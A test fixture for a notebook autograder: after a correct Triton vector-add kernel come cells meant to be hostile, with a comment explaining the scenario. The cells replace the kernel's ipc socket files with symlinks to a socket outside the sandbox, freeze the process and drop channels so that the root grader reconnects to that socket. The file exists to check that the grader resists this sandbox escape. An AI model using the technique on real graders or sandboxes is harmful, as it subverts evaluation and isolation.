# A right kernel, and cells whose notebook kernel points the grader's connections at a Unix socket outside the sandbox
# (tests/grader/test_kernel_channels.py also runs these cells alone, through ResilientExecute): each of its five ipc socket
# files becomes a link to {{host_socket}} (made by the test, outside the sandbox, listening), then it makes the
# grader's client connect again: it stops itself for 2 s (an unanswered heartbeat is reconnected), then drops its
# stdin and control connections (zmq reconnects a dropped connection by the same path). Before issue 42 the grader
# (root, outside the sandbox) connected there through the heartbeat, again and again; now it never connects to a
# notebook's kernel again, and the notebook is stopped at the cell that lost a channel (KernelConnectionLost): the
# kernel tests, graded outside, keep full marks.
@triton.jit
def triton_vector_add_kernel(
    x_ptr,
    y_ptr,
    output_ptr,
    n_elements,
    BLOCK_SIZE: tl.constexpr,
):
    pid = tl.program_id(axis=0)
    offsets = pid * BLOCK_SIZE + tl.arange(0, BLOCK_SIZE)
    mask = offsets < n_elements
    x = tl.load(x_ptr + offsets, mask=mask)
    y = tl.load(y_ptr + offsets, mask=mask)
    tl.store(output_ptr + offsets, x + y, mask=mask)
# %% append
import json
import os
import socket
import subprocess

from ipykernel.connect import get_connection_file

if os.path.exists("{{host_socket}}") or os.path.exists("{{course}}/gradebook.db"):
    raise RuntimeError("UNSANDBOXED: the test's socket is visible, so this hostile cell does nothing")
info = json.load(open(get_connection_file()))
assert info["transport"] == "ipc", info["transport"]
CHANNELS = ("shell", "iopub", "stdin", "control", "hb")
paths = {name: f"{info['ip']}-{info[name + '_port']}" for name in CHANNELS}
for path in paths.values():
    os.symlink("{{host_socket}}", path + ".lnk")
    os.replace(path + ".lnk", path)
print("HOSTILE-RAN socket_links: linked", sorted(paths), flush=True)
subprocess.Popen(["sh", "-c", f"sleep 2; kill -CONT {os.getpid()}"])
os.kill(os.getpid(), 19)  # SIGSTOP: the heartbeat goes unanswered for 2 s
print("resumed", flush=True)
# %% append
import time

dropped = []
for fd in map(int, os.listdir("/proc/self/fd")):
    try:
        s = socket.socket(fileno=os.dup(fd))
    except OSError:
        continue
    with s:
        try:
            name = s.getsockname() if s.family == socket.AF_UNIX else None
            listening = s.getsockopt(socket.SOL_SOCKET, socket.SO_ACCEPTCONN)
        except OSError:
            continue
        if not listening and name in (paths["stdin"], paths["control"]):
            s.shutdown(socket.SHUT_RDWR)
            dropped.append(name.rsplit("-", 1)[1])
print("dropped", len(dropped), flush=True)
time.sleep(1)  # zmq reconnects a dropped connection after 0.1 s
print("still here", flush=True)
# %% append
print("NOT-STOPPED: a cell after the lost channel ran")
